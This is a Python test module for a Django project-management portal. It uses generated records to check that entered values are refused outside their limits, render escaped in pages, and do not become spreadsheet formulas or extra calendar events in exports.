def plain_world(ctx: Ctx) -> World:
    return World("plain", {kind.name: (next(iter(kind.channels)), kind.plain(ctx)) for kind in KINDS.values()})


def world_strategy(ctx: Ctx):
    """A drawn world: each kind through a drawn channel, each field drawn within that channel's limits."""
    per_kind = {}
    for kind in KINDS.values():
        per_kind[kind.name] = st.one_of(
            *(
                st.tuples(
                    st.just(name),
                    st.fixed_dictionaries({f: strategy_for(lim, ctx) for f, lim in ch.limits(ctx).items()}),
                )
                for name, ch in kind.channels.items()
            )
        )
    return st.fixed_dictionaries(per_kind).map(lambda entries: World("drawn", entries))


@dataclass
class Built:
    """What a world wrote: the shared records replaced by the ones under test, and the records that read apart."""

    s: Shared
    fill: dict  # placeholders the writes gave (what-if query and body, ids of records with no Shared slot)
    extras: list[tuple[str, dict]]  # (name, replacements of Shared): a record whose own pages are read too
    refused: dict[str, str]  # kind → why its first step was refused
    later_refused: dict[str, str]  # kind → which later step was refused, and why


def write_world(ctx: Ctx, world: World) -> Built:
    """Enter every kind of ``world`` as its user would. A kind with later steps (a change request's approval, an
    issue's comments and resolution, a re-baseline's signature, a quality event's closing, a proposal's acceptance)
    is entered twice: once taken through every step ("done", its pages read apart) and once left open."""
    replacements, fill, extras, refused, later_refused = {}, {}, [], {}, {}
    for name, (channel, values) in world.entries.items():
        kind = KINDS[name]
        outcomes = []
        for attempt in ("done", "open"):
            ctx.before = row_counts()
            entered = kind.done(ctx, values) if attempt == "done" and kind.done else values
            try:
                outcome = kind.channels[channel].write(ctx, entered)
            except Refused as error:
                refused.setdefault(name, str(error))
                written = changed_tables(ctx.before, row_counts())
                if written:
                    pytest.fail(
                        f"{name} via {channel} was refused ({error}) but wrote {written}\n{world.describe(name)}"
                    )
                break
            except Exception:
                pytest.fail(f"Writing {name} via {channel} failed\n{world.describe(name)}\n{traceback.format_exc()}")
            if attempt == "done":
                for number, step in enumerate(outcome.later, start=1):
                    try:
                        step()
                    except Refused as error:  # a later step may be refused (an approval that would move dates out)
                        later_refused.setdefault(name, f"step {number}: {error}")
                        break
                    except Exception:
                        pytest.fail(
                            f"A later step of {name} via {channel} failed\n{world.describe(name)}\n"
                            f"{traceback.format_exc()}"
                        )
            outcomes.append(outcome)
            if not outcome.later:
                break
        if not outcomes:
            continue
        primary = outcomes[-1]
        fill |= primary.fill
        if kind.extra_only:
            extras.append((name, primary.shared))
        else:
            replacements |= primary.shared
        if len(outcomes) == 2:
            extras.append((f"done {name}", outcomes[0].shared))
    s = replace(ctx.s, **replacements)
    return Built(s=s, fill=fill, extras=extras, refused=refused, later_refused=later_refused)


def _fill(s: Shared, fill: dict) -> dict:
    return {
        "project": s.project.pk,
        "client": s.client.pk,
        "what_if_query": WHAT_IF_QUERY.lstrip("?"),
        "what_if_body": WHAT_IF_BODY,
        "certification": certification(s.world).pk,  # the PM's (made with the context), unless one is entered
        "user": s.world.approver_a.pk,
        # The endpoint entered, or (its registration refused) client A's own, made on first use.
        "webhook_endpoint": fill.get("webhook_endpoint") or _webhook(s)["pk"],
        **fill,
    }


def reads_of(s: Shared, fill: dict):
    """(label, method, url, body) of every read that shows an entered value, filled with the records under test.
    The label names the route and its query as declared (no ids), so worlds compare."""
    entries = [(name, name, entry) for name, entry in SHOWS.items() if entry.kinds]
    entries += [(label, EXTRA_POSTS[label][0], entry) for label, entry in EXTRA_SHOWS.items()]
    for label, name, entry in sorted(entries):
        route = EXTRA_POSTS[label][1] if label in EXTRA_POSTS else ROUTES[name]
        kwargs = entry.kwargs(s, fill) if entry.kwargs else route.kwargs(s) if route.kwargs else None
        base = reverse(name, kwargs=kwargs)
        body = (entry.body(fill) if entry.body else route.body(s)) if route.method == "post" else None
        for query in entry.queries or route.queries:
            yield label + query, route.method, base + query.format(**fill), body
    for name, entry in sorted(ADMIN_SHOWS.items()):
        base = reverse(name, kwargs=entry.kwargs(s, fill) if entry.kwargs else None)
        for query in entry.queries or ("",):
            yield name + query, "get", base + query.format(**fill), None


def all_reads(built: Built):
    """The world's reads, then those of each record read apart (only the URLs that differ from the world's)."""
    base = list(reads_of(built.s, _fill(built.s, built.fill)))
    yield from base
    seen = {(url, json.dumps(body, sort_keys=True, default=str)) for _, _, url, body in base}
    for name, replacements in built.extras:
        s = replace(built.s, **replacements)
        for label, method, url, body in reads_of(s, _fill(s, built.fill)):
            key = (url, json.dumps(body, sort_keys=True, default=str))
            if key not in seen:
                seen.add(key)
                yield f"[{name}] {label}", method, url, body


def _content(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def _formula(cell: str) -> bool:
    if not cell.startswith(("=", "+", "-", "@", "\t", "\r")):
        return False
    try:
        Decimal(cell.replace(",", ""))
    except ArithmeticError:
        return True
    return False


def body_problems(response, label: str) -> list[str]:
    """What a user would see go wrong in the body: raw markup, a formula cell, a feed that does not parse."""
    kind = response.get("Content-Type", "")
    content = _content(response)
    problems = []
    if "html" in kind:
        text = content.decode()
        problems += [f"{label}: unescaped {marker!r}" for marker in RAW_MARKERS if marker in text]
    elif "csv" in kind:
        for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))):
            problems += [f"{label}: CSV cell starts a formula: {cell[:60]!r}" for cell in row if _formula(cell)]
    elif "spreadsheetml" in kind:
        book = openpyxl.load_workbook(io.BytesIO(content))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                problems += [
                    f"{label}: XLSX cell {c.coordinate} is a formula: {str(c.value)[:60]!r}"
                    for c in row
                    if c.data_type == "f" or (isinstance(c.value, str) and _formula(c.value))
                ]
    elif "calendar" in kind:
        calendar = Calendar.from_ical(content)
        problems += [
            f"{label}: an entered text made an event of its own"
            for event in calendar.walk("VEVENT")
            if str(event.get("summary", "")).startswith("injected")
        ]
    elif "pdf" in kind:
        if not content.startswith(b"%PDF"):
            problems.append(f"{label}: not a PDF")
    elif "json" in kind:
        json.loads(content)
    return problems


def recompute(ctx: Ctx, world: World, stage: str) -> None:
    """The real services: every project's scores (both lenses) and the Lean roll-up with the KPI targets."""
    try:
        scores_recompute(project_ids=list(Project.objects.values_list("pk", flat=True)), now=ctx.now)
        lean_services.lean_rollup_refresh(now=ctx.now)
    except Exception:
        pytest.fail(f"The recompute failed {stage}\n{world.describe()}\n{traceback.format_exc()}", pytrace=False)


# The slow reads. PDFs (WeasyPrint, seconds each): quick runs render them in one world (every kind at its upper
# limits), as leadership. The system audit report's page and CSV (seconds a request, whatever the data) share their
# rendering with the project's audit page and CSV, read in every world: quick runs leave them to deep runs.
HEAVY_ROUTES = ("audit-report-pdf", "project-status-report-pdf")
DEEP_ONLY_ROUTES = ("audit-report", "audit-report-csv")


def _route(label: str) -> str:
    return label.split("] ")[-1].split("?")[0]


def _heavy(label: str) -> bool:
    return _route(label) in HEAVY_ROUTES or "format=pdf" in label


# What each read answers each role for the plain world (labels carry no ids, so it holds for every test).
EXPECTED: dict[str, int] = {}


def read_world(ctx: Ctx, world: World, built: Built, *, heavy: bool) -> dict[str, tuple[int, str]]:
    """Every read as every role: {"role | label": (status, HTML text)}. PDFs only when ``heavy``."""
    answers: dict[str, tuple[int, str]] = {}
    reads = list(all_reads(built))
    for role in (*ROLES, ADMIN_ROLE):
        for label, method, url, body in reads:
            if (role == ADMIN_ROLE) != _route(label).startswith("admin:"):
                continue  # the admin's pages as the administrator; the portal's as the portal's roles
            if _heavy(label) and not (heavy and (DEEP or role == "leadership")):
                continue
            if _route(label) in DEEP_ONLY_ROUTES and not DEEP:
                continue
            key = f"{role} | {label}"
            try:
                if method == "post":
                    response = ctx.apis[role].post(url, body, format="json")
                elif label.lstrip("[").split("] ")[-1].startswith("api:"):
                    response = ctx.apis[role].get(url)
                else:
                    response = ctx.pages[role].get(url)
                problems = body_problems(response, key)
            except Exception:
                pytest.fail(f"{key} ({url}) failed\n{world.describe()}\n{traceback.format_exc()}", pytrace=False)
            assert response.status_code != 500, f"{key} ({url}): 500\n{world.describe()}"
            assert not problems, "\n".join(problems) + f"\n{world.describe()}"
            text = _content(response).decode(errors="replace") if "html" in response.get("Content-Type", "") else ""
            answers[key] = (response.status_code, text)
    return answers


def exercise_world(ctx: Ctx, world: World, *, corners: bool = False, heavy: bool = False) -> Built:
    """Write ``world``, recompute, read everything as every role and compare with the plain world. ``corners``:
    every kind's values are a declared limit, so each must be accepted."""
    with rolled_back():
        built = write_world(ctx, world)
        if corners or world.name == "plain":
            assert not built.refused, "Refused at a declared limit:\n" + "\n".join(
                f"{kind}: {why}\n{world.describe(kind)}" for kind, why in built.refused.items()
            )
        if world.name == "plain" or corners:
            allowed = LATER_REFUSED_AT.get(world.name.split()[0], set()) if corners else set()
            unexpected = {k: why for k, why in built.later_refused.items() if k not in allowed}
            assert not unexpected, f"A later step was refused in world {world.name}: {unexpected}"
        built.s.project.refresh_from_db()
        recompute(ctx, world, "after the world was written")
        answers = read_world(ctx, world, built, heavy=heavy)
        if world.name == "plain":
            EXPECTED.update({key: status for key, (status, _) in answers.items()})
        else:
            differ = [
                f"{key}: {status} (for the plain world: {EXPECTED[key]})"
                for key, (status, _) in answers.items()
                if EXPECTED.get(key, status) != status
            ]
            assert not differ, "Answers differ from an ordinary record's:\n" + "\n".join(differ) + world.describe()
        html = [text for _, text in answers.values() if text]
        for name, (_, values) in world.entries.items():
            title = KINDS[name].title and values.get(KINDS[name].title)
            shown = escape(f'<b class="x">{name}</b>')
            if name not in built.refused and isinstance(title, str) and title.startswith(f'<b class="x">{name}</b>'):
                assert any(shown in text for text in html), f"no page shows the {name}'s {KINDS[name].title} escaped"
    return built


def expect_plain_answers(ctx: Ctx) -> None:
    if not EXPECTED:
        exercise_world(ctx, plain_world(ctx))


# --- The tests ----------------------------------------------------------------------------------------------------

# Later steps a corner cannot take: an event opened on 2100-12-31 is not closed before it opened.
LATER_REFUSED_AT = {"max": {"quality_event"}}

# (corner, channel index): each kind's channels take turns, so every channel meets both corners.
CORNERS = [("max", 0), ("min", 1), ("max", 1), ("min", 2)]


@pytest.mark.parametrize(("corner", "index"), CORNERS, ids=[f"{c}-{i}" for c, i in CORNERS])
def test_every_kind_at_its_declared_limits_is_accepted_and_renders_everywhere(ctx, corner, index):
    expect_plain_answers(ctx)
    exercise_world(ctx, corner_world(ctx, corner, index), corners=True, heavy=(corner, index) == ("max", 0))


def test_drawn_values_render_everywhere_or_are_refused_and_write_nothing(ctx):
    expect_plain_answers(ctx)

    @settings(
        max_examples=GENERATED,
        derandomize=SEED is None,
        database=None,
        deadline=None,
        phases=[Phase.generate, Phase.shrink] if DEEP else [Phase.generate],
        suppress_health_check=list(HealthCheck),
    )
    @given(world_strategy(ctx))
    def drawn(world):
        exercise_world(ctx, world, heavy=DEEP)

    if SEED is not None:
        drawn = seed(int(SEED))(drawn)
    drawn()


def _outside_cases(ctx: Ctx):
    """Each field of each channel with each value just outside its limits. Quick runs try each distinct limit of a
    channel once (the scoring policy's 28 parameters share one declaration) and two values of each."""
    for kind in KINDS.values():
        for channel, spec in kind.channels.items():
            limits = spec.limits(ctx)
            plain = kind.plain(ctx)
            base = {name: plain.get(name, corner_value(limit, "min")) for name, limit in limits.items()}
            tried = set()
            for name, limit in limits.items():
                if not DEEP and limit in tried:
                    continue
                tried.add(limit)
                values = outside_values(limit)
                for value in values if DEEP else values[:2]:
                    yield kind, channel, name, {**base, name: value}


def test_values_outside_the_declared_ranges_are_refused_and_write_nothing(ctx):
    ctx.form_pages = {}  # each case is rolled back: a form page read once serves them all
    problems = []
    checked = 0
    for kind, channel, name, values in _outside_cases(ctx):
        case = f"{kind.name} via {channel}: {name}={values[name]!r}"
        with rolled_back():
            ctx.before = row_counts()
            try:
                outcome = kind.channels[channel].write(ctx, values)
                for step in outcome.later:  # the value may be one a later step takes (an approval's comment)
                    ctx.before = row_counts()
                    step()
            except Refused:
                written = changed_tables(ctx.before, row_counts())
                if written:
                    problems.append(f"{case} refused, but wrote {written}")
            except Exception:
                problems.append(f"{case} failed:\n{traceback.format_exc()}")
            else:
                problems.append(f"{case} was accepted")
        checked += 1
    assert checked > 80, "too few values outside the limits were tried"
    assert not problems, f"{len(problems)} of {checked} values outside the declared limits:\n" + "\n".join(problems)
